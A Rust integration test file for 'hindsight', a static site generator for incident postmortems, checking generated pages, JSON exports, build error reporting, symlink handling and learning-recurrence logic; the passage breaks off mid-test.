//! Integration tests: the `hindsight` binary run over fixture sites in temporary folders.

use std::path::Path;

mod common;
use common::*;

#[test]
fn the_demo_site_builds_every_page_kind() {
    let tmp = tempfile::tempdir().unwrap();
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let out = tmp.path().join("public");
    let o = build(root, &out);
    assert!(o.status.success(), "{}", stderr(&o));
    for page in [
        "index.html",
        "incidents/index.html",
        "learnings/index.html",
        "action-items/index.html",
        "onboarding/index.html",
        "stats/index.html",
        "search/index.html",
        "404.html",
        "feed.xml",
        "sitemap.xml",
        "tags/index.html",
        "services/index.html",
        "severity/index.html",
        "years/index.html",
        "severity/sev1/index.html",
        "years/2023/index.html",
        "learnings/self-service-restore/index.html",
        "api/incidents.json",
        "api/learnings.json",
        "static/style.css",
    ] {
        assert!(out.join(page).is_file(), "missing {page}");
    }
    // One export entry per published demo incident, each with date, title and learnings.
    let mut published = 0;
    for e in std::fs::read_dir(root.join("content/postmortems")).unwrap() {
        let p = e.unwrap().path();
        if p.extension().is_some_and(|x| x == "md") {
            let text = std::fs::read_to_string(&p).unwrap();
            if !text.contains("\nstatus: draft\n") {
                published += 1;
            }
        }
    }
    let incidents = read_json(&out.join("api/incidents.json"));
    let incidents = incidents.as_array().unwrap();
    assert_eq!(incidents.len(), published);
    assert!(published >= 15);
    for i in incidents {
        let id = i["id"].as_str().unwrap();
        assert!(i["date"].as_str().unwrap().len() == 10, "{id} has a date");
        assert!(!i["title"].as_str().unwrap().is_empty(), "{id} has a title");
        assert!(
            !i["learnings"].as_array().unwrap().is_empty(),
            "{id} has learnings"
        );
        assert!(out.join(format!("incidents/{id}/index.html")).is_file());
    }
    // Every canonical learning cited by two or more incidents shows as recurring.
    let learnings = read_json(&out.join("api/learnings.json"));
    for l in learnings.as_array().unwrap() {
        if l["canonical"].as_bool().unwrap() && l["incidents"].as_array().unwrap().len() >= 2 {
            let page = std::fs::read_to_string(out.join("learnings/index.html")).unwrap();
            let recurring = page.split("id=\"once-h\"").next().unwrap();
            assert!(recurring.contains(l["title"].as_str().unwrap().split('&').next().unwrap()));
        }
    }
    // The image next to a postmortem is copied beside its page.
    assert!(out
        .join("incidents/PM2024-002/2024-05-02-checkout-latency.png")
        .is_file());
}

#[test]
fn the_dfds_corpus_builds_with_derived_titles_dates_learnings_and_actions() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("dfds");
    copy_tree(&fixture("dfds"), &root);
    let out = tmp.path().join("site");
    let o = build(&root, &out);
    assert!(o.status.success(), "{}", stderr(&o));
    let incidents = read_json(&out.join("api/incidents.json"));
    let incidents = incidents.as_array().unwrap();
    let mut expected = Vec::new();
    for e in std::fs::read_dir(&root).unwrap() {
        let name = e.unwrap().file_name().to_string_lossy().into_owned();
        if name.starts_with("PM") && !name.contains("template") {
            expected.push(name);
        }
    }
    assert_eq!(
        incidents.len(),
        expected.len(),
        "every postmortem gets an entry"
    );
    for name in &expected {
        let entry = incidents
            .iter()
            .find(|i| i["source"].as_str().unwrap() == name)
            .unwrap_or_else(|| panic!("no entry for {name}"));
        let id = entry["id"].as_str().unwrap();
        assert!(name.starts_with(id), "{name} -> {id}");
        let text = std::fs::read_to_string(root.join(name)).unwrap();
        let h1 = text
            .lines()
            .find_map(|l| l.strip_prefix("# "))
            .unwrap()
            .trim();
        assert_eq!(entry["title"].as_str().unwrap(), h1, "title of {name}");
        let year = &name[2..6];
        assert!(
            entry["date"].as_str().unwrap().starts_with(year),
            "date of {name}"
        );
        assert!(out.join(format!("incidents/{id}/index.html")).is_file());
    }
    let with_learnings = incidents
        .iter()
        .filter(|i| !i["learnings"].as_array().unwrap().is_empty())
        .count();
    let with_actions = incidents
        .iter()
        .filter(|i| !i["action_items"].as_array().unwrap().is_empty())
        .count();
    assert!(with_learnings >= 35, "{with_learnings} with learnings");
    assert!(with_actions >= 35, "{with_actions} with action items");
    // A reference link to another postmortem's file becomes a site link.
    let page = std::fs::read_to_string(out.join("incidents/PM2019-010/index.html")).unwrap();
    assert!(page.contains("href=\"../../incidents/PM2019-009/\""));
}

#[test]
fn broken_yaml_fails_the_build_with_file_line_and_column_and_keeps_the_old_site() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    copy_tree(&fixture("basic"), &root);
    let out = tmp.path().join("public");
    let o = build(&root, &out);
    assert!(o.status.success(), "{}", stderr(&o));
    let before = tree(&out);

    std::fs::write(
        root.join("content/postmortems/2024-02-02-broken.md"),
        "---\ntitle: Broken\ntags: [a, b\nseverity: SEV2\n---\n# Broken\n",
    )
    .unwrap();
    std::fs::write(
        root.join("content/postmortems/2024-02-03-also-broken.md"),
        "---\ntitle: Also broken\ndate: 2024-02-31\n---\n# Also\n",
    )
    .unwrap();
    let o = build(&root, &out);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(
        err.contains("content/postmortems/2024-02-02-broken.md:3:7"),
        "{err}"
    );
    assert!(
        err.contains("content/postmortems/2024-02-03-also-broken.md:3:7"),
        "every bad file is reported: {err}"
    );
    assert_eq!(tree(&out), before, "the previous site is untouched");
    let leftovers: Vec<_> = std::fs::read_dir(tmp.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(
        leftovers.len(),
        2,
        "no staging folder left behind: {leftovers:?}"
    );
}

#[test]
fn two_builds_of_the_same_input_are_byte_identical() {
    let tmp = tempfile::tempdir().unwrap();
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let (a, b) = (tmp.path().join("a"), tmp.path().join("b"));
    assert!(build(root, &a).status.success());
    assert!(build(root, &b).status.success());
    let (ta, tb) = (tree(&a), tree(&b));
    assert_eq!(ta.keys().collect::<Vec<_>>(), tb.keys().collect::<Vec<_>>());
    for (k, v) in &ta {
        assert!(v == &tb[k], "{k} differs between builds");
    }
}

#[test]
fn an_output_folder_hindsight_did_not_create_is_never_replaced() {
    let site = Site::fixture("basic");
    std::fs::create_dir_all(&site.out).unwrap();
    std::fs::write(site.out.join("notes.txt"), "mine").unwrap();
    let o = site.build();
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("not created by Hindsight"),
        "{}",
        stderr(&o)
    );
    assert_eq!(site.page("notes.txt"), "mine");
    // Nor is the root or the content folder used as output.
    for bad in [site.root.clone(), site.root.join("content")] {
        let o = build(&site.root, &bad);
        assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
        assert!(site
            .root
            .join("content/postmortems/2021-05-04-disk-full.md")
            .is_file());
    }
}

#[test]
fn an_unknown_config_key_is_an_error_with_a_suggestion() {
    let site = Site::fixture("basic");
    std::fs::write(
        site.root.join("hindsight.toml"),
        "title = \"x\"\noutput_dri = \"out\"\n",
    )
    .unwrap();
    let o = site.build();
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(err.contains("hindsight.toml:2:1"), "{err}");
    assert!(err.contains("output_dir"), "{err}");
}

#[test]
fn the_basic_fixture_matches_its_snapshots() {
    // A copy, outside this repository: its history would otherwise date the sitemap.
    let site = Site::fixture("basic");
    let out = site.out.clone();
    let o = site.build();
    assert!(o.status.success(), "{}", stderr(&o));
    insta::assert_json_snapshot!(
        "basic_incidents_json",
        read_json(&out.join("api/incidents.json"))
    );
    insta::assert_json_snapshot!(
        "basic_learnings_json",
        read_json(&out.join("api/learnings.json"))
    );
    let page = std::fs::read_to_string(out.join("incidents/FX-001/index.html")).unwrap();
    let main = &page[page.find("<main").unwrap()..page.find("</main>").unwrap()];
    insta::assert_snapshot!("basic_incident_page", main);
    insta::assert_snapshot!(
        "basic_feed",
        std::fs::read_to_string(out.join("feed.xml")).unwrap()
    );
    insta::assert_snapshot!(
        "basic_sitemap",
        std::fs::read_to_string(out.join("sitemap.xml")).unwrap()
    );
    // Drafts appear nowhere.
    assert!(!tree(&out)
        .values()
        .any(|b| String::from_utf8_lossy(b).contains("Not ready")));
    // The image beside the postmortem is copied beside its page.
    assert!(out.join("incidents/FX-001/disk.png").is_file());
    // Base URL: absolute links in the export.
    assert!(read_json(&out.join("api/incidents.json"))[0]["url"]
        .as_str()
        .unwrap()
        .starts_with("https://kb.example.org/pm/"));
}

#[test]
fn drafts_are_built_only_when_asked() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("public");
    build_drafts_ok(&fixture("basic"), &out);
    assert!(exported(&out, "title").contains(&"Not ready".to_string()));
}

#[test]
fn a_site_theme_can_override_one_block_of_an_embedded_template() {
    let site = Site::fixture("basic");
    let templates = site.root.join("themes/default/templates");
    std::fs::create_dir_all(&templates).unwrap();
    std::fs::write(
        templates.join("incident.html"),
        "{% extends \"default/incident.html\" %}{% block description %}Custom: {{ incident.id }}{% endblock description %}",
    )
    .unwrap();
    let o = site.build();
    assert!(o.status.success(), "{}", stderr(&o));
    let page = site.page("incidents/FX-001/index.html");
    assert!(
        page.contains("<meta name=\"description\" content=\"Custom: FX-001\">"),
        "block overridden"
    );
    assert!(
        page.contains("What we learned"),
        "the rest of the embedded template is kept"
    );
}

#[test]
fn a_theme_template_that_does_not_parse_or_render_fails_the_build_with_1_and_keeps_the_old_site() {
    let site = Site::fixture("basic");
    site.build_ok();
    let before = tree(&site.out);
    let template = site.root.join("themes/default/templates/incident.html");
    std::fs::create_dir_all(template.parent().unwrap()).unwrap();
    for (text, at) in [
        // Does not parse: tera's line and column.
        (
            "{% extends \"default/incident.html\" %}\n{% block description %}\n  {% if incident.id %}{{ incident.id }\n{% endblock description %}\n",
            "themes/default/templates/incident.html:3:38",
        ),
        // Parses, but a variable is not defined: where it is used.
        (
            "{% extends \"default/incident.html\" %}\n{% block description %}\n  {{ incident.titel }}\n{% endblock description %}\n",
            "themes/default/templates/incident.html:3:6",
        ),
    ] {
        std::fs::write(&template, text).unwrap();
        let o = site.build();
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(1), "{err}");
        assert!(err.contains(at), "{err}");
        assert!(err.contains("theme"), "the rule is named: {err}");
        assert_eq!(tree(&site.out), before, "the previous site is untouched");
    }
}

#[test]
fn a_build_reports_every_broken_template_of_a_theme_at_once_and_keeps_the_old_site() {
    let site = Site::fixture("basic");
    site.build_ok();
    let before = tree(&site.out);
    copy_tree(&fixture("broken-theme/themes"), &site.root.join("themes"));
    let o = site.build();
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    // Four that do not parse, one whose parent is missing, three that fail to render (two of
    // them extend or include one that does not parse); none of those without a fault.
    for at in [
        "404.html:2:38",
        "base.html:2:42",
        "partials/note.html:1:19",
        "mine.html:1:37",
        "term.html:1:12",
        "stats.html:3:7",
        "search.html:2:38",
        "incident.html:3:4",
    ] {
        assert!(
            err.contains(&format!("themes/default/templates/{at}")),
            "{at}: {err}"
        );
    }
    assert!(!err.contains("learning.html"), "{err}");
    assert!(!err.contains("learnings.html"), "{err}");
    assert!(err.contains("build failed with 8 errors"), "{err}");
    assert_eq!(tree(&site.out), before, "the previous site is untouched");
}

#[test]
fn a_repository_of_postmortems_without_config_or_content_folder_builds_from_its_root() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("postmortems");
    write_files(
        &root,
        &[
            ("README.md", "# Our postmortems\n\nOne file per incident.\n"),
            (
                "2023-04-02-db-failover.md",
                "# Database failover\n\n## Summary\n\nThe primary failed over.\n",
            ),
            (
                "INC-7 - Cache stampede.md",
                "# Cache stampede\n\n## Lessons learned\n\n- Warm caches before traffic\n",
            ),
        ],
    );
    // The site goes to the default `public/` inside the root, and a second build reads the
    // same postmortems, not its own output.
    for _ in 0..2 {
        let o = bin()
            .current_dir(&root)
            .args(["build", "-q"])
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", stderr(&o));
    }
    let incidents = read_json(&root.join("public/api/incidents.json"));
    let ids: Vec<&str> = incidents
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids.len(), 2, "{ids:?}: the README is not an incident");
    assert!(
        ids.contains(&"INC-7") && ids.contains(&"2023-04-02-db-failover"),
        "{ids:?}"
    );
    // Without a base URL the export's URLs are relative to the site root, so they are right
    // under any sub-path (GitHub Pages serves a project at /<repo>/).
    for inc in incidents.as_array().unwrap() {
        assert_eq!(
            inc["url"],
            format!("incidents/{}/", inc["id"].as_str().unwrap())
        );
    }
    for l in read_json(&root.join("public/api/learnings.json"))
        .as_array()
        .unwrap()
    {
        assert_eq!(
            l["url"],
            format!("learnings/{}/", l["id"].as_str().unwrap())
        );
    }
    // A root with neither a content folder nor postmortems still says what is missing.
    let empty = tmp.path().join("empty");
    write_files(&empty, &[("README.md", "# nothing yet\n")]);
    let o = build(&empty, &tmp.path().join("out"));
    assert!(!o.status.success());
    assert!(stderr(&o).contains("content_dir"), "{}", stderr(&o));
}

#[test]
fn run_inside_the_content_folder_every_command_works_on_the_knowledge_base_that_holds_it() {
    let tmp = tempfile::tempdir().unwrap();
    let kb = tmp.path().join("kb");
    write_files(
        &kb,
        &[
            (".git/HEAD", "ref: refs/heads/main\n"),
            (
                "content/2024-01-02-disk-full.md",
                "# Disk full\n\n## Lessons learned\n\n- Alert on disk usage before it is full\n",
            ),
            (
                "content/learnings/alert-on-disk.md",
                "---\ntitle: Alert on disk usage\n---\n\nAlert before the disk fills.\n",
            ),
        ],
    );
    let content = kb.join("content");
    // `build` from content/ writes the site at the root, not a second one inside content/,
    // and reads the canonical learning as a learning, not as an incident.
    let o = bin()
        .current_dir(&content)
        .args(["build"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stderr(&o).contains("into ../public"), "{}", stderr(&o));
    assert!(!content.join("public").exists());
    let ids = exported(&kb.join("public"), "id");
    assert_eq!(ids, ["2024-01-02-disk-full"]);
    // `new` from content/learnings/ puts the postmortem with the others.
    let o = bin()
        .current_dir(content.join("learnings"))
        .args(["new", "Cache stampede", "--date", "2024-02-03"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(
        String::from_utf8_lossy(&o.stdout).trim(),
        "../../content/2024-02-03-cache-stampede.md"
    );
    assert!(content.join("2024-02-03-cache-stampede.md").is_file());
    // `check` finds the same postmortems from anywhere inside them.
    let o = bin()
        .current_dir(content.join("learnings"))
        .args(["check", "--format", "json"])
        .output()
        .unwrap();
    let findings: Vec<serde_json::Value> = serde_json::from_slice(&o.stdout).unwrap();
    // (The new draft's empty sections are findings, named from the root that was found.)
    assert!(
        findings
            .iter()
            .any(|f| f["file"] == "content/2024-02-03-cache-stampede.md"),
        "{findings:#?}"
    );
    // `--root .` keeps the folder as given: a knowledge base of its own.
    let o = bin()
        .current_dir(content.join("learnings"))
        .args(["build", "--root", ".", "--out", "../../elsewhere"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    let ids = exported(&kb.join("elsewhere"), "id");
    assert_eq!(ids, ["alert-on-disk"]);
    // A folder of postmortems beside a site's content/ is a knowledge base of its own.
    write_files(
        &kb,
        &[("postmortems/2024-03-04-dns.md", "# DNS\n\nIt was DNS.\n")],
    );
    let o = bin()
        .current_dir(kb.join("postmortems"))
        .args(["build", "-q"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(
        exported(&kb.join("postmortems/public"), "id"),
        ["2024-03-04-dns"]
    );
    // Outside a git repository a folder above may be anyone's: the folder is taken as given.
    std::fs::remove_dir_all(kb.join(".git")).unwrap();
    let o = bin()
        .current_dir(content.join("learnings"))
        .args(["build", "-q"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(
        exported(&content.join("learnings/public"), "id"),
        ["alert-on-disk"]
    );
}

#[test]
fn run_inside_a_repository_of_postmortems_at_its_top_the_commands_work_on_the_whole_repository() {
    let tmp = tempfile::tempdir().unwrap();
    let kb = tmp.path().join("kb");
    write_files(
        &kb,
        &[
            (".git/HEAD", "ref: refs/heads/main\n"),
            ("README.md", "# Our postmortems\n"),
            (
                "2024-01-02-disk-full.md",
                "# Disk full\n\n## Lessons learned\n\n- Alert on disk usage before it is full\n",
            ),
            (
                "2024/search-reindex/README.md",
                "# Search reindex dropped documents\n\n## Summary\n\nOn 2024-05-06 the reindex dropped documents.\n\n## Timeline\n\n- 09:00 reindex started\n",
            ),
            (
                "learnings/alert-on-disk.md",
                "---\ntitle: Alert on disk usage\n---\n\nAlert before the disk fills.\n",
            ),
            ("notes/2024-07-08-dns.md", "# DNS\n\nIt was DNS.\n"),
        ],
    );
    // From learnings/ and from an incident's own folder: the repository's site, at its top.
    for (folder, out) in [
        ("learnings", "../public"),
        ("2024/search-reindex", "../../public"),
    ] {
        let o = bin()
            .current_dir(kb.join(folder))
            .args(["build"])
            .output()
            .unwrap();
        assert!(o.status.success(), "{folder}: {}", stderr(&o));
        assert!(
            stderr(&o).contains(&format!("into {out}")),
            "{}",
            stderr(&o)
        );
        assert!(!kb.join(folder).join("public").exists(), "{folder}");
        assert_eq!(
            exported(&kb.join("public"), "id"),
            ["2024-07-08-dns", "search-reindex", "2024-01-02-disk-full"],
            "{folder}"
        );
    }
    // A folder that holds postmortems of its own is a knowledge base of its own, as before.
    let o = bin()
        .current_dir(kb.join("notes"))
        .args(["build", "-q"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(exported(&kb.join("notes/public"), "id"), ["2024-07-08-dns"]);
}

/// A postmortem with front matter, for the symbolic-link tests.
#[cfg(unix)]
fn postmortem(id: &str, title: &str) -> String {
    format!("---\nid: {id}\ntitle: {title}\ndate: 2024-01-02\n---\n# {title}\n\n## Summary\n\nIt broke.\n")
}

#[test]
#[cfg(unix)]
fn a_symlinked_postmortem_and_a_linked_folder_are_built_like_any_other() {
    use std::os::unix::fs::symlink;
    let site = Site::with(&[
        ("content/own.md", &postmortem("OWN-1", "Our own")),
        ("elsewhere/real.md", &postmortem("S-1", "Linked file")),
        (
            "shared/2023/two.md",
            &postmortem("S-2", "In a linked folder"),
        ),
    ]);
    symlink("../elsewhere/real.md", site.root.join("content/sym.md")).unwrap();
    symlink("../shared", site.root.join("content/linkeddir")).unwrap();
    site.build_ok();
    let mut ids = exported(&site.out, "id");
    ids.sort();
    assert_eq!(ids, ["OWN-1", "S-1", "S-2"]);
    // Each is known by the path of its link, as its author laid the folder out.
    let page = site.page("incidents/S-2/index.html");
    assert!(page.contains("In a linked folder"), "{page}");
}

#[test]
#[cfg(unix)]
fn a_broken_symbolic_link_fails_the_build_naming_the_link_and_where_it_points() {
    use std::os::unix::fs::symlink;
    let site = Site::with(&[("content/own.md", &postmortem("OWN-1", "Our own"))]);
    symlink("/nonexistent", site.root.join("content/broken.md")).unwrap();
    // Not content: an editor's lock file (a dangling link with a hidden name) and an image,
    // which `missing-image` reports where it is used.
    symlink("me@host.123", site.root.join("content/.#own.md")).unwrap();
    symlink("gone.png", site.root.join("content/diagram.png")).unwrap();
    let o = site.build();
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(err.contains("content/broken.md"), "{err}");
    assert!(
        err.contains("`/nonexistent`, which does not exist"),
        "{err}"
    );
    assert!(err.contains("point the link at an existing file"), "{err}");
    assert!(
        !err.contains(".#own.md") && !err.contains("diagram.png"),
        "{err}"
    );
    assert!(!site.out.exists(), "nothing is published");
}

#[test]
#[cfg(unix)]
fn a_symbolic_link_back_to_the_root_is_a_loop_reported_once_and_never_followed() {
    use std::os::unix::fs::symlink;
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    write_files(
        &root,
        &[
            ("content/own.md", &postmortem("OWN-1", "Our own")),
            ("notes.md", &postmortem("NOTE-1", "Not content")),
        ],
    );
    // Into the output folder, before it exists and after: never read, never a finding.
    symlink("../public", root.join("content/site")).unwrap();
    let out = root.join("public");
    for _ in 0..2 {
        build_ok(&root, &out);
    }
    assert_eq!(exported(&out, "id"), ["OWN-1"]);
    symlink("..", root.join("content/up")).unwrap();
    symlink(".", root.join("content/here")).unwrap();
    let o = build(&root, &out);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let err = stderr(&o);
    for link in ["content/up", "content/here"] {
        assert_eq!(
            err.matches(&format!("`{link}` is a symbolic link")).count(),
            1,
            "{err}"
        );
    }
    assert!(err.contains("loop"), "{err}");
    // Nothing was read through them: no finding names a file under either.
    let (code, findings) = check_json(&root, &[]);
    assert_eq!(code, Some(1));
    let files: Vec<&str> = findings
        .iter()
        .map(|f| f["file"].as_str().unwrap())
        .collect();
    assert!(
        files
            .iter()
            .all(|f| !f.starts_with("content/up/") && !f.starts_with("content/here/")),
        "{files:?}"
    );
    assert!(files.contains(&"content/own.md"), "{files:?}");
}

#[test]
fn a_root_that_is_not_a_folder_is_a_usage_failure_for_build_as_for_check() {
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("README.md");
    std::fs::write(&file, "# Not a folder\n").unwrap();
    for root in [tmp.path().join("no-such-folder"), file] {
        let o = build(&root, &tmp.path().join("public"));
        assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
        let want = format!("`{}` is not a folder; pass the folder", root.display());
        assert!(stderr(&o).contains(&want), "{}", stderr(&o));
        let commands: [&[&str]; 3] = [&["check"], &["search", "disk"], &["serve", "--port", "0"]];
        for command in commands {
            // `serve` would run until stopped had it accepted the root.
            let mut child = bin()
                .args(command)
                .arg("--root")
                .arg(&root)
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap();
            let start = std::time::Instant::now();
            while child.try_wait().unwrap().is_none() {
                if start.elapsed() > std::time::Duration::from_secs(20) {
                    child.kill().unwrap();
                    panic!("{command:?} accepted {}", root.display());
                }
                std::thread::sleep(std::time::Duration::from_millis(50));
            }
            let o = child.wait_with_output().unwrap();
            assert_eq!(o.status.code(), Some(2), "{command:?}: {}", stderr(&o));
            assert!(stderr(&o).contains(&want), "{command:?}: {}", stderr(&o));
        }
    }
    assert!(!tmp.path().join("public").exists());
}

#[test]
fn a_learning_taught_by_more_incidents_than_a_page_lists_names_the_earlier_ones_by_year() {
    let mut files: Vec<(String, String)> = vec![(
        "content/learnings/retry-budgets.md".into(),
        "---\ntitle: Retries need a budget\n---\n\nBound retries so a failing dependency is not hammered.\n".into(),
    )];
    // 103 incidents over four years, each citing the learning and marking an action item for
    // it done (so that each later one recurred after it).
    for n in 0..103 {
        let (year, day) = (2021 + n / 30, 1 + n % 28);
        let month = 1 + (n % 30) / 3;
        let status = if n % 2 == 0 { "done" } else { "open" };
        files.push((
            format!("content/postmortems/pm-{n:03}.md"),
            format!(
                "---\nid: PM-{n:03}\ntitle: Outage {n}\ndate: {year}-{month:02}-{day:02}\n\
                 learnings:\n  - id: retry-budgets\n    text: Wording {n} of the lesson.\n\
                 action_items:\n  - text: Cap retries in client {n}\n    status: {status}\n    learning: retry-budgets\n---\n\nWhat happened.\n"
            ),
        ));
    }
    let files: Vec<(&str, &str)> = files
        .iter()
        .map(|(p, c)| (p.as_str(), c.as_str()))
        .collect();
    let site = Site::with(&files);
    site.build_ok();
    let page = site.page("learnings/retry-budgets/index.html");
    // The 100 most recent in full, with their wordings; the three oldest as links under 2021.
    assert_eq!(page.matches("<blockquote class=\"quote\">").count(), 100);
    assert!(page.contains("Wording 102 of the lesson") && !page.contains("Wording 2 of the"));
    let earlier = &page[page
        .find("<ul class=\"earlier\">")
        .expect("earlier incidents")..];
    let earlier = &earlier[..earlier.find("</ul>").unwrap()];
    assert!(earlier.contains("<strong>2021</strong> (3):"), "{earlier}");
    assert_eq!(earlier.matches("<a href=").count(), 3, "{earlier}");
    // Every incident is reachable from the page.
    for n in 0..103 {
        assert!(
            page.contains(&format!("incidents/PM-{n:03}/\"")),
            "PM-{n:03}"
        );
    }
    // Action items: the 100 most recent, with the counts of all 103.
    assert_eq!(page.matches("<li class=\"action action-").count(), 100);
    assert!(
        page.contains("52 done, 51 open, 0 won't fix."),
        "action counts"
    );
    // Recurrences: every incident after the first done action recurred; the latest 10 shown.
    assert!(page.contains("It happened 102 times; the 10 most recent:"));
    let warning = &page[page.find("recurred-h").unwrap()..page.find("cited-h").unwrap()];
    assert_eq!(
        warning
            .matches("whose action item for it is now done.</li>")
            .count(),
        10
    );
    // The export still names every incident.
    let learnings = read_json(&site.out.join("api/learnings.json"));
    assert_eq!(learnings[0]["incidents"].as_array().unwrap().len(), 103);
}

#[test]
fn recurrence_after_a_done_action_is_claimed_only_where_the_authors_made_both_links() {
    let pm = |id: &str, date: &str, learning: &str, action: &str| {
        format!(
            "---\nid: {id}\ntitle: Outage {id}\ndate: {date}\nlearnings:\n{learning}\
             action_items:\n{action}---\n\nWhat happened.\n"
        )
    };
    let a = pm(
        "PM-1",
        "2021-03-01",
        "  - id: retry-budgets\n    text: Clients retried without limit.\n",
        "  - text: Cap retries in the mobile client\n    status: done\n    learning: retry-budgets\n",
    );
    // Linked by Hindsight: the learning says the canonical learning in other words.
    let b = pm(
        "PM-2",
        "2022-03-01",
        "  - Retries need a budget, so that a failing dependency is not hammered by every client.\n",
        "  - text: Move the batch job to a quieter hour\n    status: open\n",
    );
    let c = pm(
        "PM-3",
        "2023-03-01",
        "  - id: retry-budgets\n    text: The web client retried without limit too.\n",
        "  - text: Bound retries in the web client with a retry budget so a failing dependency is not hammered\n    status: open\n",
    );
    let site = Site::with(
        &[
            (
                "content/learnings/retry-budgets.md",
                "---\ntitle: Retries need a budget\n---\n\nBound retries so that a failing dependency is not hammered by clients.\n",
            ),
            ("content/postmortems/pm-1.md", &a),
            ("content/postmortems/pm-2.md", &b),
            ("content/postmortems/pm-3.md", &c),
        ],
    );
    site.build_ok();
    let page = site.page("learnings/retry-budgets/index.html");
    let section = |id: &str| {
        let start = page
            .find(&format!("aria-labelledby=\"{id}\""))
            .unwrap_or_else(|| panic!("{id} in {page}"));
        let rest = &page[start..];
        rest[..rest.find("</section>").unwrap()].to_string()
    };
    // PM-3 cites the learning by id after PM-1's action for it, named by its authors, was done.
    let claim = section("recurred-h");
    assert!(
        claim.contains("Outage PM-3</a>") && claim.contains("Outage PM-1</a>"),
        "{claim}"
    );
    assert!(!claim.contains("Outage PM-2"), "{claim}");
    // PM-2's learning was linked by similarity: a question, not a claim.
    let maybe = section("maybe-recurred-h");
    assert!(
        maybe.contains("Outage PM-2</a>") && maybe.contains("by similarity"),
        "{maybe}"
    );
    assert!(!maybe.contains("Outage PM-3"), "{maybe}");
    // Among the incidents that taught it, those similarity brought say so.
    let taught = section("cited-h");
    let entry = |id: &str| {
        let at = taught
            .find(&format!("<span class=\"id\">{id}</span>"))
            .unwrap();
        taught[at..].split("</li>").next().unwrap().to_string()
    };
    assert!(entry("PM-2").contains("linked by Hindsight"), "{taught}");
    assert!(!entry("PM-1").contains("linked by Hindsight"), "{taught}");
    // The overview counts the learnings that recurred after a fix: claims only.
    let overview = site.page("index.html");
    assert!(
        overview.contains(
            "<strong>1</strong> recurred after an incident whose action item is now done"
        ),
        "{overview}"
    );
    // An action item that Hindsight attached shows its learning, and says who linked it; the
    // export names it.
    let incident = site.page("incidents/PM-3/index.html");
    let actions = &incident[incident.find("id=\"actions-h\"").unwrap()..];
    assert!(
        actions.contains("learnings/retry-budgets/\">Retries need a budget</a> <span class=\"muted\">linked by Hindsight</span>"),
        "{actions}"
    );
    let pm3 = site.incident("PM-3");
    assert_eq!(pm3["action_items"][0]["learning"], "retry-budgets");
}

#[test]
fn the_default_reading_path_calls_only_incidents_of_a_known_severity_most_severe() {
    let site = Site::with(
        &[
            (
                "content/a.md",
                "---\nid: A-1\ntitle: Checkout down\ndate: 2024-01-02\nseverity: SEV1\n---\n\nWhat happened.\n",
            ),
            (
                "content/b.md",
                "---\nid: B-1\ntitle: Slow search\ndate: 2024-03-04\n---\n\nWhat happened.\n",
            ),
            (
                "content/c.md",
                "---\nid: C-1\ntitle: Late emails\ndate: 2024-05-06\nseverity: SEV2\n---\n\nWhat happened.\n",
            ),
        ],
    );
    site.build_ok();
    let page = site.page("onboarding/index.html");
    let step = |title: &str| {
        let at = page
            .find(title)
            .unwrap_or_else(|| panic!("{title} in {page}"));
        page[at..].split("</li>").next().unwrap().to_string()
    };
    assert!(step("Checkout down").contains("One of the most severe incidents (SEV1)."));
    // A SEV2 where a SEV1 exists is not one of the most severe.
    let c = step("Late emails");
    assert!(
        c.contains("A SEV2 incident.") && !c.contains("most severe"),
        "{c}"
    );
    let b = step("Slow search");
    assert!(
        b.contains("A recent incident.") && !b.contains("most severe"),
        "{b}"
    );
}

/// A one-postmortem site whose hindsight.toml is `config` (none when empty).
fn small_site(root: &Path, config: &str) {
    write_files(
        root,
        &[(
            "content/INC-1 - Disk full.md",
            "# Disk full\n\n## Summary\n\nThe disk filled up on 2024-05-01.\n",
        )],
    );
    if !config.is_empty() {
        write_files(root, &[("hindsight.toml", config)]);
    }
}

#[test]
fn a_build_without_base_url_says_once_that_feed_and_sitemap_need_one_and_writes_what_is_valid() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    small_site(&root, "");
    let out = tmp.path().join("public");
    let o = build(&root, &out);
    assert!(o.status.success(), "{}", stderr(&o));
    let err = stderr(&o);
    assert_eq!(err.matches("`base_url` is not set").count(), 1, "{err}");
    assert!(err.contains("--base-url"), "{err}");
    // The 404 page, served at any path, links from the host's root: the warning says so.
    assert!(err.contains("404.html links from the host's root"), "{err}");
    let not_found = std::fs::read_to_string(out.join("404.html")).unwrap();
    assert!(
        not_found.contains("href=\"/static/style.css"),
        "{not_found}"
    );
    let summary = bin()
        .args(["build", "--root"])
        .arg(&root)
        .arg("--out")
        .arg(&out)
        .output()
